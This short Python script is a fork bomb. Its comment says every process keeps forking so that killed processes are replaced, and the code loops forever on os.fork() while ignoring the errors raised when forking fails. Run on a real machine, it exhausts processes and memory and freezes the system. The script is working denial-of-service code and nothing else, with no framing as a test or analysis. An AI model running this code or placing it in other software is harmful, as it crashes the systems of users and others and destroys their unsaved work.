# Every process forks for as long as it lives: what is killed is made anew by those that are left.
import os

print("begun", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        pass
